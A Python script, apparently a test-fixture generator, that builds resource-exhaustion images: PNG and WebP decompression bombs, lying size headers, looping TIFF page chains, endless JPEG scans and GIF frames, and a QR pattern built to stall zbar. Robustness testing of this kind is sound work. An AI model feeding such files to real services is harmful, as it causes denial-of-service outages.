"""Writes pictures made to attack into a folder: attacks.py FOLDER. Needs qrencode, cjpeg, cwebp and netpbm."""
import pathlib
import struct
import subprocess
import sys
import zlib

folder = pathlib.Path(sys.argv[1])


def run(*command, given=b""):
    return subprocess.run(command, input=given, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=True).stdout


def write(name, data):
    (folder / name).write_bytes(data)


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width, height, data, depth=8, kind=0, more=b""):
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)) + more
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def zeros(count):
    """So many zeros, compressed a part at a time."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(min(1 << 20, count - start))) for start in range(0, count, 1 << 20)) + packer.flush()


def gray(rows):
    return png(len(rows[0]), len(rows), zlib.compress(b"".join(b"\0" + bytes(row) for row in rows)))


def code(text, scale):
    """The rows of a QR code with its margin."""
    lines = run("qrencode", "-t", "ASCII", "-m", "4", "-o", "-", text).decode().splitlines()
    return [bytes(0 if sign == "#" else 255 for sign in line[::2] for _ in range(scale)) for line in lines for _ in range(scale)]


blank = bytes([255]) * 10_000
small = zlib.compress(b"".join(b"\0" + bytes([255]) * 100 for _ in range(100)))
portable = b"P5\n100 100\n255\n" + blank

# PNG: many pixels of few bytes, a header that lies, texts and a colour profile that grow when unpacked.
write("pixels.png", png(20_000, 20_000, zeros(20_000 * 2501), depth=1))
write("header.png", png(50_000, 50_000, zlib.compress(b"")))
write("text.png", png(100, 100, small, more=chunk(b"zTXt", b"Comment\0\0" + zeros(60 << 20))))
write("texts.png", png(100, 100, small, more=chunk(b"tEXt", b"a\0b") * 20_000))
write("profile.png", png(100, 100, small, more=chunk(b"iCCP", b"a\0\0" + zeros(60 << 20))))

# JPEG: the largest header there is, and one scan over and over.
jpeg = run("cjpeg", "-progressive", given=portable)
frame = jpeg.index(b"\xff\xc2")
write("header.jpg", jpeg[:frame + 5] + struct.pack(">HH", 65_500, 65_500) + jpeg[frame + 9:])
large = run("cjpeg", "-progressive", given=b"P5\n4000 4000\n255\n" + bytes([255]) * 16_000_000)
scan = large.index(b"\xff\xda", large.index(b"\xff\xda") + 2)
end = large.index(b"\xff", scan + 2)
write("scans.jpg", large[:scan] + large[scan:end] * 2_000 + large[scan:])

# GIF: thousands of frames, and a screen without end.
gif = run("pamtogif", given=portable)
start = 13 + (3 << (gif[10] & 7) + 1 if gif[10] & 0x80 else 0)
write("frames.gif", gif[:start] + gif[start:-1] * 5_000 + b";")
write("screen.gif", gif[:6] + b"\xff\xff\xff\xff" + gif[10:])

# WebP: an animation of thousands of frames, and one whose canvas is as large as can be.
(folder / "source.png").write_bytes(png(100, 100, small))
still = run("cwebp", "-quiet", "-lossless", str(folder / "source.png"), "-o", "-")[12:]
(folder / "source.png").unlink()


def animation(width, height, frames):
    def riff(name, data):
        return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)

    def three(value):
        return struct.pack("<I", value)[:3]

    one = riff(b"ANMF", three(0) + three(0) + three(99) + three(99) + three(1) + b"\0" + still)
    body = riff(b"VP8X", b"\x02\0\0\0" + three(width - 1) + three(height - 1)) + riff(b"ANIM", bytes(6)) + one * frames
    return riff(b"RIFF", b"WEBP" + body)


write("frames.webp", animation(100, 100, 5_000))
write("canvas.webp", animation(16_384, 16_384, 2))

# TIFF: pages in a circle, strips and tags beyond number.
fields = [(256, 4, 1, 100), (257, 4, 1, 100), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1),
          (278, 4, 1, 100), (279, 4, 1, 10_000)]


def tiff(fields, last, count=None):
    table = b"".join(struct.pack("<HHII", *field) for field in fields)
    return (b"II*\0" + struct.pack("<I", 10_008) + blank + struct.pack("<H", count or len(fields)) + table
            + struct.pack("<I", last))


def changed(**values):
    """The fields with some exchanged: t273=(count, value)."""
    return [(tag, kind, *values.get(f"t{tag}", (count, value))) for tag, kind, count, value in fields]


write("circle.tiff", tiff(fields, 10_008))
write("strips.tiff", tiff(changed(t278=(1, 1), t273=(0x7FFF_FFFF, 8), t279=(0x7FFF_FFFF, 8)), 0))
write("rows.tiff", tiff(changed(t256=(1, 16_000), t257=(1, 4_000), t278=(1, 4_000)), 0))
write("tags.tiff", tiff(fields, 0, count=65_535))
write("bigtags.tiff", b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, 1 << 32) + bytes(1_000))

# BMP and Netpbm: sizes that lie, with and without pixels.


def bmp(width, height, bits=24, compression=0, used=0):
    return b"BM" + struct.pack("<III", 54, 0, 54) + struct.pack(
        "<IiiHHIIiiII", 40, width, height, 1, bits, compression, 0, 0, 0, used, 0)


write("largest.bmp", bmp(0x7FFF_FFFF, -0x8000_0000))
write("pixels.bmp", bmp(16_000, 4_000) + bytes(100))
write("palette.bmp", bmp(100, 100, bits=8, used=0xFFFF_FFFF) + bytes(100))
write("largest.pgm", b"P5 99999999999999999999999999 1 255\n")
write("pixels.pbm", b"P4 16000 4000\n")
write("pixels.tga", bytes([0, 0, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0]) + struct.pack("<HHBB", 16_000, 4_000, 8, 0) + bytes(100))

# Corner marks of one pixel a module hold one call of zbar for minutes.
mark = ["1111111", "1000001", "1011101", "1011101", "1011101", "1000001", "1111111", "0000000"]
tile = [bytes(0 if sign == "1" else 255 for sign in line + "0") * 500 for line in mark]
write("marks.png", gray(tile * 500))

# A page of 600 different codes.
codes = [code(f"otpauth://totp/{n}?secret=GEZDGNBVGY3TQO{chr(65 + n % 26)}{chr(65 + n // 26)}", 2) for n in range(600)]
side = max(len(rows) for rows in codes)
codes = [[row.ljust(side, b"\xff") for row in rows] + [b"\xff" * side] * (side - len(rows)) for rows in codes]
write("codes.png", gray([
    b"".join(codes[line * 24 + column][row] for column in range(24)) for line in range(25) for row in range(side)]))
